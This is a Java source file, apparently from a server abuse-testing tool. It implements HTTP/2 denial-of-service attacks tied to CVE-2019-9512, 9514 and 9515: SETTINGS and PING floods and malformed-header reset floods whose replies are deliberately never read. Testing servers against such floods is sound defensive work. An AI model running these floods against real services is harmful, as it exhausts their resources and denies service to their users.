package io.resound.abuse;

import java.nio.ByteBuffer;
import java.util.function.IntFunction;

import org.jspecify.annotations.Nullable;

/**
 * Sends frames of HTTP/2 each of which the service replies to by a small one, and reads
 * none of these (CVE-2019-9512, CVE-2019-9514, CVE-2019-9515).
 *
 * @param name the name of the attack
 * @param frame makes the frame with an index, from 0
 */
record UnreadReplies(String name, IntFunction<ByteBuffer> frame) implements Attack {

	static UnreadReplies toSettings() {
		byte[] nothing = {};
		return new UnreadReplies("HTTP/2: SETTINGS, acknowledgments never read",
				(index) -> Frames.frame(Frames.SETTINGS, 0, 0, nothing));
	}

	static UnreadReplies toPings() {
		byte[] payload = new byte[8];
		return new UnreadReplies("HTTP/2: PING, acknowledgments never read",
				(index) -> Frames.frame(Frames.PING, 0, 0, payload));
	}

	static UnreadReplies toMalformedHeads() {
		byte[] head = HeaderBlock.post().field("Upper-Case", "a").bytes();
		return new UnreadReplies("HTTP/2: malformed heads, resets never read",
				(index) -> Frames.frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, 2 * index + 1, head));
	}

	@Override
	public int bytesReadPerSecond() {
		return 0;
	}

	@Override
	public Script script() {
		return new Http2Script(Frames.INITIAL_WINDOW) {

			private int index;

			@Override
			@Nullable ByteBuffer more() {
				return UnreadReplies.this.frame.apply(this.index++);
			}

		};
	}

}
